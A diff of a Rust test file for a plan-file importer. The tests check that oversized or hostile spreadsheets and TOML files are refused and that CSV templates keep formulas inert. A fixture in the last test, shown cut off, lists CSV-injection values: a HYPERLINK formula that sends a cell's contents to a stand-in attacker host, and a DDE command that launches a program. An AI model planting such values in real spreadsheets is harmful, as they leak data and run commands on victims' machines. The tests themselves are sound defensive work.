@@ -8,7 +8,8 @@ use crate::support;
 use std::io::Write;
 use std::time::{Duration, Instant};
 
-use dwcp_feedback::domain::{Plan, PlanProblem, ProblemKind};
+use dwcp_feedback::domain::{Lang, PlanProblem, ProblemKind};
+use dwcp_feedback::messages::plan_problem;
 use dwcp_feedback::plan_io::{read_plan, write_csv_template, MAX_SHEET_COLUMNS, MAX_SHEET_ROWS};
 use support::fake_telegram::FakeTelegram;
 use support::harness::{binary, database};
@@ -98,6 +99,10 @@ fn hundred_thousand_rows() -> Vec<u8> {
     std::fs::read(path).unwrap()
 }
 
+fn english(p: &PlanProblem) -> String {
+    plan_problem(p, Lang::En)
+}
+
 fn refused_as(name: &str, bytes: &[u8]) -> Vec<PlanProblem> {
     let started = Instant::now();
     let problems = read_plan(name, bytes).expect_err("a hostile file is refused");
@@ -135,9 +140,9 @@ fn a_sheet_claiming_a_distant_cell_is_refused_without_building_the_grid() {
             "{far}: {problems:?}"
         );
         assert!(
-            problems[0].to_string().contains("delete the rows"),
+            english(&problems[0]).contains("delete the rows"),
             "{}",
-            problems[0]
+            english(&problems[0])
         );
     }
 }
@@ -194,8 +199,8 @@ fn a_sheet_of_100000_rows_is_refused() {
 
 #[test]
 fn a_plan_beyond_the_limits_is_refused_before_its_activities_are_checked() {
-    let plan = Plan::default_plan();
-    let mut toml = dwcp_feedback::domain::plan::DEFAULT_PLAN_TOML.to_string();
+    let plan = dwcp_feedback::plan_io::default_plan();
+    let mut toml = dwcp_feedback::plan_io::DEFAULT_PLAN_TOML.to_string();
     for i in 0..400 {
         toml.push_str(&format!(
             "\n[[activity]]\ncode = \"X{i}\"\npriority = \"P1\"\n"
@@ -205,7 +210,7 @@ fn a_plan_beyond_the_limits_is_refused_before_its_activities_are_checked() {
         toml.push_str(&format!("\n[[priority]]\ncode = \"Q{i}\"\n"));
     }
     let problems = refused_as("plan.toml", toml.as_bytes());
-    let text: Vec<String> = problems.iter().map(|p| p.to_string()).collect();
+    let text: Vec<String> = problems.iter().map(english).collect();
     assert_eq!(
         text,
         [
@@ -227,17 +232,17 @@ fn a_problem_names_a_huge_cell_without_echoing_it() {
     csv.push_str(&"Z".repeat(500_000));
     csv.push_str(",x\npriority\n");
     let problems = refused_as("plan.csv", csv.as_bytes());
-    let longest = problems.iter().map(|p| p.to_string().len()).max().unwrap();
+    let longest = problems.iter().map(|p| english(p).len()).max().unwrap();
     assert!(longest < 300, "a problem of {longest} bytes");
     assert!(
-        problems.iter().any(|p| p.to_string().contains("ZZZZ…")),
+        problems.iter().any(|p| english(p).contains("ZZZZ…")),
         "{problems:?}"
     );
 }
 
 #[test]
 fn the_csv_template_keeps_formulas_inert_and_reads_back_byte_for_byte() {
-    let mut plan = Plan::default_plan();
+    let mut plan = dwcp_feedback::plan_io::default_plan();
     let hostile = [
         "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
         "+cmd|' /C calc'!A0",
